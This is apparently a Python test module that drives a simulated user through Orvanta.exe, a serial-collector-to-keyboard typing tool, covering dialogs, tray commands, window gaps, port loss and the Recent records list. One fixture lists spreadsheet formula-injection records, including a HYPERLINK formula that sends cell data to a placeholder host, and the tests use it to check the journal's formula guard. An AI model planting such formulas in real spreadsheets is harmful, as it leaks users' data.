"""
The interactive cases: Orvanta.exe runs with its settings dialog, on the
collector simulator and with the typing target, as the unattended ones do;
a user, played from outside by ui_driver.exe, works the buttons, fields,
the code picker, message boxes and the tray menu's Open and Exit. Controls
and menu commands go by their names in src/res/resource.h.

The keep-online series below are left to themselves while the typing target
makes a window gap or the simulated port goes away: the user only waits for
the records and two more polls, looks for a message box, and exits.

The runner (__main__) applies ALWAYS and a case's own checks to its run.
"""
import csv
import os
import re
import subprocess
import time

from .checks import (DAY_FILE, PENDING_FILE, delivered, exit_code, heard_nothing, journal_actions, journal_bytes,
                     journal_file, kept_focus, lines_received_start, port_lost, seen, settings_port, settings_start,
                     stopped_within, typed, typed_once_but_resent, typed_whole_after_a_piece, user_done,
                     window_gaps_quiet)
from .environment import wait_for
from .harness import (CH340_SOCKET, FTDI, REPO, InteractiveSetup, UserFailed, byte_record_options, focus_lost,
                      journal_folder, journal_name, reads_so_far, record_options, today, typed_records, typed_so_far,
                      wait_until_delivered, wait_until_polled, wait_until_port_lost, wait_until_typed)
from .simulator import record_line


def dialog_caption(template):
    """The caption a dialog template of the program's resources gives."""
    with open(os.path.join(REPO, "src", "res", "orvanta.rc")) as f:
        resources = f.read()
    return re.search(rf'^{template} DIALOGEX.*?^CAPTION "([^"]*)"', resources, re.M | re.S).group(1)


DIALOG = dialog_caption("MainFormDlg")
GRID = dialog_caption("GridDlg")
RECENT = dialog_caption("RecentRecordsDlg")
TARGET = "Typing target"


# The users. Start goes to the dialog as the button's notification only, so
# that the typing target keeps the keyboard focus for the records.

def start_over_rs232(driver, outcome):
    driver("wait", DIALOG, "visible")
    driver("select", DIALOG, "IDC_TRANSMISSION_TYPE", "0")
    driver("foreground", TARGET)
    driver("command", DIALOG, "IDC_START")
    outcome.seen["hidden after Start"] = driver("wait", DIALOG, "hidden", "10")
    wait_until_typed(outcome, b"abc\r4006381333931\r")
    driver("tray", "IDM_TRAY_EXIT")


def prefix_enter(driver, outcome):
    driver("wait", DIALOG, "visible")
    driver("select", DIALOG, "IDC_TRANSMISSION_TYPE", "0")
    driver("click", DIALOG, "IDC_PREFIX_ENABLED")
    driver("press", DIALOG, "IDC_PREFIX_CODES", "4", "4")
    driver("wait", GRID, "visible")
    driver("pickcell", GRID, "0", "13")
    driver("click", GRID, "IDC_GRID_OK")
    driver("wait", GRID, "gone")
    outcome.seen["prefix field"] = driver("gettext", DIALOG, "IDC_PREFIX_CODES")
    driver("foreground", TARGET)
    driver("command", DIALOG, "IDC_START")
    wait_until_typed(outcome, b"\rabc\r")
    driver("tray", "IDM_TRAY_EXIT")


def missing_port(driver, outcome):
    driver("wait", DIALOG, "visible")
    driver("command", DIALOG, "IDC_START")
    outcome.seen["message"] = driver("messagebox")
    outcome.seen["hidden after the message"] = driver("wait", DIALOG, "hidden", "5")
    driver("tray", "IDM_TRAY_OPEN")
    outcome.seen["shown by Open"] = driver("wait", DIALOG, "visible", "10")
    driver("tray", "IDM_TRAY_EXIT")


def started_again_during_a_series(driver, outcome):
    """A keep-online series, started at logon, types its first batch; the
    user starts Orvanta again from the Start menu. The second start ends
    at once and the running program's dialog comes to the front, the one
    program with one tray icon; the series goes on once the user is back
    in the window to type into."""
    wait_until_typed(outcome, typed_records(*SIX[:2]), seconds=60)
    outcome.seen["second start ended"] = str(driver.start_again(outcome))
    outcome.seen["in front"] = "|".join(driver("front").split("|")[:3])
    outcome.seen["programs"] = str(len(orvanta_processes(outcome)))
    outcome.seen["tray icons"] = driver("trayicons")
    driver("foreground", TARGET)
    wait_until_typed(outcome, typed_records(*SIX[:4]))
    driver("tray", "IDM_TRAY_EXIT")


# The transfer starts while the dialog opens, and the dialog stays hidden:
# the target keeps the focus from the start, with no help from the user,
# through the READs the collector first refuses and two polls.
def keep_online_from_command_line(driver, outcome):
    wait_until_delivered(outcome, 2)
    wait_until_typed(outcome, b"abc\rdef\r")
    outcome.seen["dialog hidden"] = driver("wait", DIALOG, "hidden", "1")
    driver("tray", "IDM_TRAY_EXIT")


def adapter_moves(driver, outcome):
    """The cradle's adapter is pulled out after two records and put into
    another USB socket, where Windows names it anew as COM9. Once the series
    has every record, the user opens the dialog and reads the port."""
    wait_until_port_lost(outcome)
    driver.move_adapters(outcome, gone=[CH340_SOCKET % 3], new={9: CH340_SOCKET % 4})
    wait_until_delivered(outcome, 6, seconds=60)
    driver("tray", "IDM_TRAY_OPEN")
    driver("wait", DIALOG, "visible")
    outcome.seen["port shown"] = driver("gettext", DIALOG, "IDC_COM_PORT")
    outcome.seen["port named"] = driver("gettext", DIALOG, "IDC_COM_PORT_NAME")
    driver("tray", "IDM_TRAY_EXIT")


def two_adapters_of_one_kind(driver, outcome):
    """The adapter comes back beside a second one of its kind, neither
    with a serial number: the series sends nothing and the dialog asks. The
    user answers COM7 and presses Start; the series gets the rest there."""
    wait_until_port_lost(outcome)
    driver.move_adapters(outcome, gone=[CH340_SOCKET % 3], new={3: CH340_SOCKET % 4, 7: CH340_SOCKET % 5})
    driver("wait", DIALOG, "visible", "60")
    outcome.seen["question"] = driver("gettext", DIALOG, "IDC_COM_PORT_NAME")
    reads = reads_so_far(outcome)
    time.sleep(4)
    outcome.seen["READs while asking"] = str(reads_so_far(outcome) - reads)
    driver("settext", DIALOG, "IDC_COM_PORT", "7")
    driver("foreground", TARGET)
    driver("command", DIALOG, "IDC_START")
    wait_until_delivered(outcome, 4, seconds=60)
    driver("tray", "IDM_TRAY_EXIT")


def keep_online_until_delivered(count):
    """Keep-online left to itself: once the collector has all `count`
    records, two more polls must follow (the series goes on), and no message
    box may be waiting for a click."""
    def user(driver, outcome):
        wait_until_delivered(outcome, count, seconds=60)
        wait_until_polled(outcome, reads_so_far(outcome) + 2, seconds=20)
        outcome.seen["message box"] = driver("messagebox", "0", check=False)
        driver("tray", "IDM_TRAY_EXIT")
    return user


KEEP_ONLINE = "1,1,1,1,1,1,2"      # polls every second
NO_MESSAGE_BOX = seen("message box", "no message box")
SIX = ("4006381333931", "LOT-2024/07 A", "Qty: 12", "5901234123457", "SKU 10-4471/X", "PACK 7 ACK")


def window_gap(kind, seconds, after="2", whole=typed(typed_records(*SIX)), command_line=KEEP_ONLINE):
    """The target stops being a window to type into at the Enter of the
    second record (or after the given count, "31c" in characters), for
    longer than a transfer's NAKs would last, and comes back. A record whose
    keys all went in counts as delivered, whatever its window does next:
    each record is typed once, none into the window while it is away."""
    return (InteractiveSetup(command_line, sim_options=record_options(*SIX),
                             target_options=["--gap", "%s,%s,%s" % (kind, after, seconds)],
                             user=keep_online_until_delivered(6)),
            [whole, delivered(6), window_gaps_quiet(1), NO_MESSAGE_BOX, kept_focus])


LONG = "LOT-24B117 EXP 2026-03 QTY 48 SKU 10-4471/XY"


def session_ends_while_typing(driver, outcome):
    """The user logs off while the long record 2 is being typed: asked
    whether the session may end, the program stops the record at its next
    key before it answers; then the end comes as the Restart Manager gives
    it to a program it closes, which must then end by itself."""
    wait_for(lambda: typed_so_far(outcome).startswith(b"abc\rLOT-"), 30)
    outcome.seen["answer"] = driver("session", "query")
    time.sleep(2)   # long enough for several more characters at 60 ms
    driver("session", "closeapp")


def type_again_chosen_record(driver, outcome):
    """Three records typed by a keep-online series; then the user opens
    Recent records, narrows the list to the second record by a search,
    chooses it, clicks Type again and, within the countdown, the window to
    type into: the record comes once more, and only it."""
    wait_until_typed(outcome, typed_records(*SIX[:3]), seconds=60)
    driver("tray", "IDM_TRAY_RECENT")
    driver("wait", RECENT, "visible")
    driver("settext", RECENT, "IDC_RECENT_SEARCH", "lot-2024")
    driver("listselect", RECENT, "IDC_RECENT_LIST", "1")   # the record, under its transfer's line
    driver("click", RECENT, "IDC_TYPE_AGAIN")
    outcome.seen["window closed"] = driver("wait", RECENT, "gone", "5")
    driver("foreground", TARGET)
    wait_until_typed(outcome, typed_records(*SIX[:3], SIX[1]), seconds=20)
    driver("tray", "IDM_TRAY_EXIT")


def exit_with_recent_records_open(driver, outcome):
    """A keep-online series types its first batch; the user opens Recent
    records and, leaving it open, clicks the window to type into: the
    series goes on meanwhile and types the next batch there, and Exit in
    the tray ends the program with the list still open."""
    wait_until_typed(outcome, typed_records(*SIX[:2]), seconds=60)
    driver("tray", "IDM_TRAY_RECENT")
    driver("wait", RECENT, "visible")
    driver("foreground", TARGET)
    wait_until_typed(outcome, typed_records(*SIX[:4]), seconds=30)
    outcome.seen["list open"] = driver("wait", RECENT, "visible", "1")
    driver("tray", "IDM_TRAY_EXIT")


# What the user reads in "Recent records" and the journal folder.

def list_line(driver, line, *columns):
    return "|".join(driver("listtext", RECENT, "IDC_RECENT_LIST", str(line), str(c)) for c in columns)


def wait_until_listed(driver, lines, seconds=30):
    """A search is answered by the window's reading thread: the list
    changes a moment after the text."""
    def count():
        return driver("listcount", RECENT, "IDC_RECENT_LIST")
    if not wait_for(lambda: count() == str(lines), seconds, step=0.2):
        raise UserFailed("the list has %s lines, waited for %d" % (count(), lines))


def wait_until_all_read(driver, seconds=60):
    """The status under the list once no file is left to read."""
    status = [""]

    def all_read():
        status[0] = driver("gettext", RECENT, "IDC_RECENT_STATUS")
        return status[0] != "" and "reading" not in status[0]
    if not wait_for(all_read, seconds, step=0.2):
        raise UserFailed("the journal was not read within %d s: %r" % (seconds, status[0]))
    return status[0]


def journal_records(outcome, name):
    """The records of a journal file's rows, "|" between them; "none"
    when there is no such file."""
    path = os.path.join(journal_folder(outcome.directory), journal_name(name))
    if not os.path.exists(path):
        return "none"
    with open(path, encoding="utf-8-sig", newline="") as f:
        return "|".join(row["Record"] for row in csv.DictReader(f))


def wait_until_as_much_typed(outcome, count, seconds=20):
    """Where what arrives is the case's to judge: waits for the count of
    characters alone."""
    if not wait_for(lambda: len(typed_so_far(outcome)) >= count, seconds):
        raise UserFailed("typed %r, waited for %d characters" % (typed_so_far(outcome), count))


def type_again_found(driver, outcome, search, record):
    """Recent records narrowed by the search to one record under its
    transfer's line; that record chosen and typed again into the target:
    the user waits for as many characters as it has (the case's checks
    tell whether they are the right ones)."""
    typed_before = len(typed_so_far(outcome))
    driver("settext", RECENT, "IDC_RECENT_SEARCH", search)
    wait_until_listed(driver, 2)
    outcome.seen["found"] = list_line(driver, 1, 1)
    outcome.seen["status of the search"] = driver("gettext", RECENT, "IDC_RECENT_STATUS")
    driver("listselect", RECENT, "IDC_RECENT_LIST", "1")
    driver("click", RECENT, "IDC_TYPE_AGAIN")
    driver("wait", RECENT, "gone", "5")
    driver("foreground", TARGET)
    wait_until_as_much_typed(outcome, typed_before + len(typed_records(record)))


def day_file_held_meanwhile(driver, outcome):
    """A keep-online series types its first batch; before the next poll the
    user opens the day's journal file in a spreadsheet, and the second
    batch is typed while it shows the file, the rows waiting in the day's
    pending file. The user closes it and waits for the last batch and a
    retry of the move."""
    wait_until_delivered(outcome, 2, seconds=60)
    spreadsheet = driver.spreadsheet(outcome, DAY_FILE).open()
    wait_until_delivered(outcome, 4)
    outcome.seen["waiting while held"] = journal_records(outcome, PENDING_FILE)
    spreadsheet.close()
    wait_until_delivered(outcome, 6)
    time.sleep(6)    # longer than the program waits to try the move again
    driver("tray", "IDM_TRAY_EXIT")


# Records a spreadsheet would run as formulas; the one with a link first,
# so that only a search brings it to the top of the list. (Given to the
# simulator as escaped bytes: "-2+3" would pass for an option.)
FORMULAS = ('=HYPERLINK("http://x.invalid/?"&A1)', "=1+2", "+SUM(A1:A3)", "-2+3", "@SUM(1)")


def formulas_typed_again(driver, outcome):
    """The records are typed as they are; Recent records lists them as
    they are, newest first, and the one with a link, found by a search,
    is typed again as it is."""
    wait_until_typed(outcome, typed_records(*FORMULAS), seconds=60)
    driver("tray", "IDM_TRAY_RECENT")
    driver("wait", RECENT, "visible")
    wait_until_listed(driver, 1 + len(FORMULAS))
    outcome.seen["listed"] = "|".join(list_line(driver, line, 1) for line in range(1, 1 + len(FORMULAS)))
    type_again_found(driver, outcome, "hyperlink", FORMULAS[0])
    driver("tray", "IDM_TRAY_EXIT")


def orvanta_processes(outcome):
    """The status fields (/proc/PID/status) of every Orvanta.exe process
    of the run."""
    exe = os.path.join(outcome.directory, "app", "Orvanta.exe")
    pids = subprocess.run(["pgrep", "-f", re.escape(exe)], capture_output=True, text=True).stdout.split()
    found = []
    for pid in pids:
        try:
            with open("/proc/%s/status" % pid) as f:
                fields = dict(line.split(":", 1) for line in f if ":" in line)
        except OSError:
            continue
        if fields.get("Name", "").strip() == "Orvanta.exe":
            found.append(fields)
    return found


def resident_kib(outcome):
    """The memory of the program's own pages (RssAnon) as Linux counts it."""
    for fields in orvanta_processes(outcome):
        return int(fields["RssAnon"].split()[0])
    raise UserFailed("no Orvanta.exe process found")


NEEDLE = "NEEDLE-4711"


def months_of_journal(driver, outcome):
    """Three records typed beside 89 days of journal (890,000 rows); the
    user opens Recent records and waits for all of it to be read: the
    first line is today's transfer. A search finds the one record of the
    oldest day, which is typed again. The seconds until the first line
    and until all is read, and the memory it took, are figures only."""
    wait_until_typed(outcome, typed_records(*SIX[:3]), seconds=60)
    before = resident_kib(outcome)
    start = time.monotonic()
    driver("tray", "IDM_TRAY_RECENT")
    driver("listcount", RECENT, "IDC_RECENT_LIST", "60")
    outcome.seen["seconds to the first line"] = "%.1f" % (time.monotonic() - start)
    outcome.seen["all read"] = wait_until_all_read(driver)
    outcome.seen["seconds to all read"] = "%.1f" % (time.monotonic() - start)
    outcome.seen["memory grown MB"] = "%.1f" % ((resident_kib(outcome) - before) / 1024)
    when = list_line(driver, 0, 0)
    outcome.seen["first line"] = ("today" if when.startswith(today() + " ") else when) + "|" \
        + list_line(driver, 0, 1)
    outcome.seen["under it"] = "|".join(list_line(driver, line, 1) for line in (1, 2, 3))
    type_again_found(driver, outcome, NEEDLE.lower(), NEEDLE)
    driver("tray", "IDM_TRAY_EXIT")


# On a French keymap digits take Shift, and Caps Lock changes more than
# letters; "@", "#", "[", ... are AltGr characters there, which wine
# cannot type (see the German case).
FRENCH = ("Lot 12/B-7 azerty", "QWERTY; x=4, y:5!", "Prix 3,50 EUR * 2 % ?")


def caps_lock_on_typed_again(driver, outcome):
    """Caps Lock is on before the first record comes (the collector
    refuses the first READs) and stays on; the record typed again from
    Recent records comes as it came the first time."""
    outcome.seen["caps lock"] = driver("key", "20")
    wait_until_as_much_typed(outcome, len(typed_records(*FRENCH)), seconds=60)
    driver("tray", "IDM_TRAY_RECENT")
    driver("wait", RECENT, "visible")
    type_again_found(driver, outcome, "prix", FRENCH[2])
    driver("tray", "IDM_TRAY_EXIT")


CORE_WINDOW = "Windows.UI.Core.CoreWindow"
# The shell's windows, each by the program that shows it and its class:
# Start, Search (Windows 11, 10, and 10 before 1903), the notification
# centre, the lock screen; Task View and Alt+Tab (Windows 10, 11, the
# classic one, and the switch window of Windows' own); the taskbar's
# overflow of icons (Windows 10, 11).
SHELL_WINDOWS = (("StartMenuExperienceHost.exe", CORE_WINDOW), ("SearchHost.exe", CORE_WINDOW),
                 ("SearchApp.exe", CORE_WINDOW), ("SearchUI.exe", CORE_WINDOW),
                 ("ShellExperienceHost.exe", CORE_WINDOW), ("LockApp.exe", CORE_WINDOW),
                 ("explorer.exe", "MultitaskingViewFrame"), ("explorer.exe", "XamlExplorerHostIslandWindow"),
                 ("explorer.exe", "TaskSwitcherWnd"), ("explorer.exe", "#32771"),
                 ("explorer.exe", "NotifyIconOverflowWindow"),
                 ("explorer.exe", "TopLevelWindowForOverflowXamlIsland"))


def shell_windows_then_an_application(driver, outcome):
    """The shell's windows take the front one after the other, each for
    longer than a poll of the series; then the user opens an application's
    window of the same framework as Start's. No READ goes out while the
    shell is in front, nothing is typed into it, and the records come to
    the application."""
    typed_into, lost_front = [], []
    for program, window_class in SHELL_WINDOWS:
        window = driver.shell_window(outcome, program, window_class)
        window.start()
        time.sleep(1.5)     # a poll of the series and more
        if focus_lost(window.read_events()):
            lost_front.append("%s %s" % (program, window_class))
        window.stop()
        if window.read_typed():
            typed_into.append("%s %s: %r" % (program, window_class, window.read_typed()))
    outcome.seen["READs while the shell was in front"] = str(reads_so_far(outcome))
    outcome.seen["typed into the shell"] = "; ".join(typed_into) or "nothing"
    outcome.seen["shell windows that lost the front"] = ", ".join(lost_front) or "none"
    driver.open_target()
    wait_until_typed(outcome, typed_records(*SIX[:3]))
    driver("tray", "IDM_TRAY_EXIT")


RS232_LINES = b"0\r\n1\r\n0\r\n1\r\n0\r\n2\r\n2\r\n"
ENTER_PREFIX = b"1\x7f" + bytes(9) + b"\r\n"

CASES = {
    # Start, Search, Task View, Alt+Tab, the notification centre, the lock
    # screen and the taskbar's overflow in turn: none is a window to type
    # into, and the records wait in the collector; a Store app's window
    # (a CoreWindow of its own program) takes them.
    "shell_windows_take_no_records": (
        InteractiveSetup(KEEP_ONLINE, sim_options=record_options(*SIX[:3]), user=shell_windows_then_an_application,
                         target_as=("CalculatorApp.exe", CORE_WINDOW), target_later=True, time_limit=150),
        [typed(typed_records(*SIX[:3])), delivered(3), seen("READs while the shell was in front", "0"),
         seen("typed into the shell", "nothing"), seen("shell windows that lost the front", "none")]),
    "type_again_from_recent_records": (
        InteractiveSetup(KEEP_ONLINE, sim_options=record_options(*SIX[:3]), user=type_again_chosen_record),
        [typed(typed_records(*SIX[:3], SIX[1])), seen("window closed", "ok"),
         journal_actions(("typed", SIX[0]), ("typed", SIX[1]), ("typed", SIX[2]), ("typed again", SIX[1]))]),
    # Typed again as typed: no apostrophe of the journal's formula guard
    # in the list or in the keys, while the journal has it in its Record
    # field and the line's bytes exactly.
    "formula_records_typed_listed_and_typed_again": (
        InteractiveSetup(KEEP_ONLINE, sim_options=byte_record_options(*[r.encode() for r in FORMULAS]),
                         user=formulas_typed_again),
        [typed(typed_records(*FORMULAS, FORMULAS[0])), seen("listed", "|".join(reversed(FORMULAS))),
         seen("found", FORMULAS[0]), seen("status of the search", "1 record of 5"),
         journal_actions(*[("typed", "'" + r) for r in FORMULAS], ("typed again", "'" + FORMULAS[0])),
         journal_bytes(*[record_line(n, r.encode())[:-1] for n, r in enumerate(FORMULAS)],
                       record_line(0, FORMULAS[0].encode())[:-1])]),
    # Polls every 5 s: time enough to open the spreadsheet between batches.
    "keep_online_day_file_held_meanwhile": (
        InteractiveSetup("1,1,1,1,1,5,2", user=day_file_held_meanwhile,
                         sim_options=record_options(*SIX[:2]) + ["--next-batch"] + record_options(*SIX[2:4])
                         + ["--next-batch"] + record_options(*SIX[4:])),
        [typed(typed_records(*SIX)), delivered(6), seen("waiting while held", "|".join(SIX[2:4])),
         journal_file(DAY_FILE, SIX), journal_file(PENDING_FILE, None), kept_focus]),
    # 890,000 rows of 89 days, read while the list is already open.
    "recent_records_over_89_days_of_journal": (
        InteractiveSetup(KEEP_ONLINE, sim_options=record_options(*SIX[:3]), journal_days=89, time_limit=120,
                         user=months_of_journal),
        [typed(typed_records(*SIX[:3], NEEDLE)), seen("all read", "890,003 records in 8,901 transfers"),
         seen("first line", "today|COM1, 3 records"), seen("under it", "|".join(reversed(SIX[:3]))),
         seen("found", NEEDLE), seen("status of the search", "1 record of 890,003")]),
    # Caps Lock on from before the series and on while a record is typed
    # again, on a keymap where it changes more than letters.
    "caps_lock_on_french_keymap_typed_again": (
        InteractiveSetup(KEEP_ONLINE, sim_options=record_options(*FRENCH) + ["--nak-read", "4"], keymap="fr",
                         user=caps_lock_on_typed_again),
        [typed(typed_records(*FRENCH, FRENCH[2])), seen("caps lock", "on"), seen("found", FRENCH[2])]),
    "keep_online_goes_on_and_exits_with_recent_records_open": (
        InteractiveSetup(KEEP_ONLINE, user=exit_with_recent_records_open,
                         sim_options=record_options(*SIX[:2]) + ["--next-batch"] + record_options(*SIX[2:4])),
        [typed(typed_records(*SIX[:4])), delivered(4), seen("list open", "ok")]),
    "interactive_start_types_records": (
        InteractiveSetup("", sim_options=record_options("abc", "4006381333931"), user=start_over_rs232),
        [typed(b"abc\r4006381333931\r"), seen("hidden after Start", "ok"), settings_start(RS232_LINES)]),
    "interactive_prefix_enter_saved_as_127": (
        InteractiveSetup("", sim_options=record_options("abc"), user=prefix_enter),
        [typed(b"\rabc\r"), seen("prefix field", " Enter"), settings_start(RS232_LINES + ENTER_PREFIX)]),
    "interactive_missing_port": (
        InteractiveSetup("", ports={1: "absent"}, user=missing_port),
        [typed(b""), seen("message", "Error|Failed to open the COM port!"),
         seen("hidden after the message", "ok"), seen("shown by Open", "ok")]),
    # Polls every 5 s: the second batch comes after the second start, not
    # while the dialog comes to the front.
    "started_again_during_a_series": (
        InteractiveSetup("1,1,1,1,1,5,2", user=started_again_during_a_series,
                         sim_options=record_options(*SIX[:2]) + ["--next-batch"] + record_options(*SIX[2:4])),
        [typed(typed_records(*SIX[:4])), delivered(4), seen("second start ended", "1"),
         seen("in front", "#32770|%s|1" % DIALOG), seen("programs", "1"), seen("tray icons", "1")]),
    "interactive_keep_online_command_line": (
        InteractiveSetup("1,1,1,1,1,1,2", user=keep_online_from_command_line,
                         sim_options=record_options("abc") + ["--next-batch"] + record_options("def")
                         + ["--nak-read", "12"]),
        [typed(b"abc\rdef\r"), lines_received_start(*["READ"] * 13, "ACK", "READ", "ACK"),
         seen("dialog hidden", "ok"), kept_focus]),
    "keep_online_target_hides": window_gap("hide", 5),
    "keep_online_target_minimizes": window_gap("minimize", 6),
    # Destroyed at the Enter; another window opens 8 s later.
    "keep_online_target_goes_away": window_gap("away", 8),
    # Three characters into record 3: the rest is not typed there, and the
    # collector's next copy goes whole to the window when it is back. At
    # 60 ms a character no key of the record is still on its way when the
    # window hides; keys already on their way would count as delivered.
    "keep_online_target_hides_within_a_record": window_gap("hide", 5, "31c", typed_whole_after_a_piece(*SIX),
                                                           command_line="1,1,1,1,1,1,60"),
    # The adapter is pulled while record 3 is being typed and put back 3 s
    # later: record 3's ACK may go down with the port, and only that record
    # may be typed twice.
    "keep_online_port_lost": (
        InteractiveSetup(KEEP_ONLINE, user=keep_online_until_delivered(6),
                         sim_options=record_options(*SIX) + ["--port-lost-after", "2", "--port-lost-delay-ms", "120",
                                                             "--port-back-after", "3"]),
        [typed_once_but_resent(*SIX), delivered(6), port_lost(1), NO_MESSAGE_BOX, kept_focus]),
    # Only "abc" was acknowledged; the process ends by itself (exit code 1).
    "keep_online_session_ends_while_typing": (
        InteractiveSetup("1,1,1,1,1,1,60", user=session_ends_while_typing,
                         sim_options=record_options("abc", LONG, "xyz")),
        [stopped_within("abc", record=LONG), delivered(1), seen("answer", "may end")]),
    # The adapter goes into another socket and comes back as COM9; an FTDI
    # adapter of something else on COM5 hears nothing all along. The
    # settings file keeps the number the user chose.
    "keep_online_adapter_moves_to_another_number": (
        InteractiveSetup(KEEP_ONLINE, ports={1: "sim", 5: "listen", 9: "absent"},
                         adapters={1: CH340_SOCKET % 3, 5: FTDI}, user=adapter_moves, time_limit=120,
                         sim_options=record_options(*SIX) + ["--port-lost-after", "2", "--port-back-after", "5",
                                                             "--port-back-as", "com9"]),
        [typed_once_but_resent(*SIX), delivered(6), heard_nothing(5), seen("port shown", "9"),
         seen("port named", "Collector's adapter: USB-SERIAL CH340 (COM9)"), settings_port(1)]),
    "keep_online_two_adapters_of_one_kind_ask": (
        InteractiveSetup(KEEP_ONLINE, ports={1: "sim", 3: "listen", 7: "absent"}, adapters={1: CH340_SOCKET % 3},
                         user=two_adapters_of_one_kind, time_limit=120,
                         sim_options=record_options(*SIX[:4]) + ["--port-lost-after", "2", "--port-back-after", "3",
                                                                 "--port-back-as", "com7"]),
        [typed_once_but_resent(*SIX[:4]), delivered(4), heard_nothing(3), seen("question", "Collector on COM3 or COM7?"),
         seen("READs while asking", "0"), settings_port(7)]),
    # Started at logon before the adapter is plugged in.
    "keep_online_port_appears_later": (
        InteractiveSetup(KEEP_ONLINE, user=keep_online_until_delivered(3),
                         sim_options=record_options(*SIX[:3]) + ["--port-appears-after", "4"]),
        [typed(typed_records(*SIX[:3])), delivered(3), NO_MESSAGE_BOX, kept_focus]),
}

# Every interactive run ends through the tray menu's Exit, with exit code 1.
ALWAYS = [user_done, exit_code(1)]
